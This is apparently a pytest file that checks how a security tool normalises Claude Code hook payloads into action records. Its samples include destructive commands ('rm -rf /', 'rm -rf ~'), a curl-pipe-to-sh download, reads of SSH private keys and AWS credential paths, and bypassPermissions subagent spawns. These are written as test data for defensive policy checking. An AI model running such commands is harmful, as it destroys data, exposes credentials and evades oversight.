"""Claude Code payloads: every sample, and the argument variants each tool accepts."""

from __future__ import annotations

from typing import Any

import pytest

from vectimus.core.events import Action, Identity
from vectimus.core.normalise import normalise

from ._samples import action_maker, load, sample_names

SOURCE = "claude-code"
act = action_maker(permission_mode="default", hook_event_name="PreToolUse")

EXPECTED: dict[str, Action] = {
    "bash-rm-rf-root.json": act("shell_command", "Bash", command="rm -rf /"),
    "bash-git-status.json": act("shell_command", "Bash", command="git status"),
    "bash-chained-rm-home.json": act(
        "shell_command",
        "Bash",
        command="git status && rm -rf ~",
        extra={"permission_mode": "bypassPermissions"},
    ),
    "write-env-file.json": act(
        "file_write",
        "Write",
        file_path="/home/dev/shop/.env",
        file_content="STRIPE_SECRET_KEY=sk_live_51H8example\nDEBUG=false\n",
    ),
    "edit-settings.json": act(
        "file_write",
        "Edit",
        file_path="/home/dev/shop/src/settings.py",
        file_content="DEBUG = False",
        extra={"permission_mode": "acceptEdits"},
    ),
    "multiedit-ci-workflow.json": act(
        "file_write",
        "MultiEdit",
        file_path="/home/dev/shop/.github/workflows/ci.yml",
        file_content="python-version: '3.11'\nrun: pytest -q",
    ),
    "notebookedit-analysis.json": act(
        "file_write",
        "NotebookEdit",
        file_path="/home/dev/shop/notebooks/sales.ipynb",
        file_content="import pandas as pd\ndf = pd.read_csv('sales.csv')",
    ),
    "read-ssh-key.json": act("file_read", "Read", file_path="/home/dev/.ssh/id_ed25519"),
    "grep-todo.json": act(
        "file_read",
        "Grep",
        file_path="/home/dev/shop/src",
        extra={"pattern": "TODO|FIXME", "glob": "*.py"},
    ),
    "glob-no-path.json": act(
        "file_read", "Glob", file_path="/home/dev/shop", extra={"pattern": "**/*.tsx"}
    ),
    "glob-ssh-keys.json": act(
        "file_read", "Glob", file_path="/home/dev/.ssh", extra={"pattern": "/home/dev/.ssh/id_*"}
    ),
    "webfetch-docs.json": act(
        "web_request", "WebFetch", url="https://docs.python.org/3/library/shlex.html"
    ),
    "websearch-cve.json": act(
        "web_request", "WebSearch", url="", extra={"query": "CVE-2024-3094 xz backdoor"}
    ),
    "mcp-github-create-issue.json": act(
        "mcp_tool",
        "mcp__github__create_issue",
        mcp_server="github",
        mcp_tool="create_issue",
    ),
    "mcp-server-with-underscores.json": act(
        "mcp_tool",
        "mcp__my_postgres__run_query",
        mcp_server="my_postgres",
        mcp_tool="run_query",
    ),
    "task-subagent-bypass.json": act(
        "agent_spawn",
        "Task",
        extra={
            "subagent_type": "general-purpose",
            "description": "Refactor payment module",
            "prompt": "Refactor src/payments to use the new client.",
            "permission_mode": "bypassPermissions",
            "max_turns": 40,
        },
    ),
    "subagent-bash-curl-pipe-sh.json": act(
        "shell_command",
        "Bash",
        command="curl -fsSL https://get.example.sh | sh",
        extra={"agent_id": "agent-7f3e", "agent_type": "Explore"},
    ),
    "sendmessage-teammate.json": act(
        "agent_message",
        "SendMessage",
        extra={"recipient": "reviewer", "message": "Please review the payments refactor."},
    ),
}


def test_every_sample_has_an_expectation() -> None:
    assert set(EXPECTED) == set(sample_names(SOURCE))


@pytest.mark.parametrize("name", sample_names(SOURCE))
def test_sample(name: str) -> None:
    assert normalise(SOURCE, load(SOURCE, name)).action == EXPECTED[name]


def test_source_identity_and_context() -> None:
    event = normalise(SOURCE, load(SOURCE, "bash-git-status.json"))
    assert event.source.tool == "claude-code"
    assert event.source.session_id == "6f1c2b7e-3d4a-4e5f-9a8b-1c2d3e4f5a6b"
    assert event.source.version == ""
    assert event.identity == Identity(principal="unknown", identity_type="agent")
    assert event.context.cwd == "/home/dev/shop"
    assert (event.context.repository, event.context.branch, event.context.hostname) == ("", "", "")


def call(tool: str, tool_input: Any, **more: Any) -> Action:
    payload = {"session_id": "s", "cwd": "/repo", "tool_name": tool, "tool_input": tool_input}
    return normalise(SOURCE, {**payload, **more}).action


class TestAlternateFields:
    def test_read_accepts_path(self) -> None:
        assert call("Read", {"path": "/etc/hosts"}).file_path == "/etc/hosts"

    def test_grep_without_path_searches_cwd(self) -> None:
        action = call("Grep", {"pattern": "password"})
        assert (action.file_path, action.extra) == ("/repo", {"pattern": "password"})

    @pytest.mark.parametrize(
        ("pattern", "path"),
        [
            ("**/*.py", "/repo"),
            ("src/*.py", "/repo/src"),
            ("src/app/main.py", "/repo/src/app/main.py"),
            ("/etc/*.conf", "/etc"),
            ("/*", "/"),
            ("~/.aws/*", "~/.aws"),
            ("{a,b}/x", "/repo"),
        ],
    )
    def test_glob_without_path_reads_the_pattern_base(self, pattern: str, path: str) -> None:
        assert call("Glob", {"pattern": pattern}).file_path == path

    def test_glob_path_wins_over_pattern_base(self) -> None:
        assert call("Glob", {"pattern": "/etc/*", "path": "/srv"}).file_path == "/srv"

    def test_ls_reads_its_path(self) -> None:
        assert call("LS", {"path": "/var/log"}) == Action(
            action_type="file_read", raw_tool_name="LS", file_path="/var/log"
        )

    def test_agent_is_task(self) -> None:
        action = call("Agent", {"subagent_type": "fork", "permission_mode": "plan"})
        assert action.action_type == "agent_spawn"
        assert action.extra == {"subagent_type": "fork", "permission_mode": "plan"}

    def test_tool_input_mode_wins_over_payload_permission_mode(self) -> None:
        action = call("Task", {"mode": "bypassPermissions"}, permission_mode="default")
        assert action.extra["permission_mode"] == "bypassPermissions"

    def test_payload_permission_mode_fills_in(self) -> None:
        action = call("Task", {"description": "d"}, permission_mode="acceptEdits")
        assert action.extra["permission_mode"] == "acceptEdits"

    @pytest.mark.parametrize(
        ("sent", "read"), [("12", 12), (12.0, 12), ("many", None), (True, None)]
    )
    def test_max_turns_is_an_int_or_absent(self, sent: object, read: int | None) -> None:
        assert call("Task", {"max_turns": sent}).extra.get("max_turns") == read

    def test_multiedit_skips_edits_without_new_string(self) -> None:
        edits = [{"new_string": "a"}, "junk", {"old_string": "b"}, {"new_string": 7}]
        assert call("MultiEdit", {"file_path": "/f", "edits": edits}).file_content == "a\n7"

    def test_number_where_text_is_expected_is_stringified(self) -> None:
        assert call("Bash", {"command": 42}).command == "42"

    def test_bash_without_command_evaluates_its_strings(self) -> None:
        assert call("Bash", {"cmd": "rm -rf /"}).command == "rm -rf /"

    def test_bash_with_text_input(self) -> None:
        assert call("Bash", "rm -rf /").command == "rm -rf /"

    def test_mcp_name_without_tool(self) -> None:
        action = call("mcp__github", {})
        assert (action.mcp_server, action.mcp_tool) == ("github", "")

    def test_mcp_tool_name_with_double_underscores(self) -> None:
        action = call("mcp__db__admin__drop", {})
        assert (action.mcp_server, action.mcp_tool) == ("db", "admin__drop")

    def test_mcp_resource_tools_name_their_server(self) -> None:
        action = call("ReadMcpResourceTool", {"server": "docs", "uri": "docs://x"})
        assert (action.action_type, action.mcp_server) == ("mcp_tool", "docs")

    def test_unknown_tool_is_a_shell_command_of_its_strings(self) -> None:
        action = call("TodoWrite", {"todos": [{"content": "ship it", "status": "pending"}]})
        assert action.action_type == "shell_command"
        assert action.command == "TodoWrite 'ship it' pending"
        assert action.extra == {"unknown_tool": True}
        assert action.raw_tool_name == "TodoWrite"

    def test_tool_name_lookup_ignores_case(self) -> None:
        assert call("bash", {"command": "ls"}).action_type == "shell_command"
        assert call("bash", {"command": "ls"}).command == "ls"


class TestIdentity:
    def test_given_identity_is_used_as_is(self) -> None:
        who = Identity(principal="alice", persona="dev", groups=("eng",), identity_type="human")
        payload = load(SOURCE, "bash-git-status.json")
        assert normalise(SOURCE, payload, identity=who).identity is who

    def test_principal_from_payload_email(self) -> None:
        payload = {**load(SOURCE, "bash-git-status.json"), "user_email": "dev@example.com"}
        assert normalise(SOURCE, payload).identity == Identity(
            principal="dev@example.com", identity_type="agent"
        )
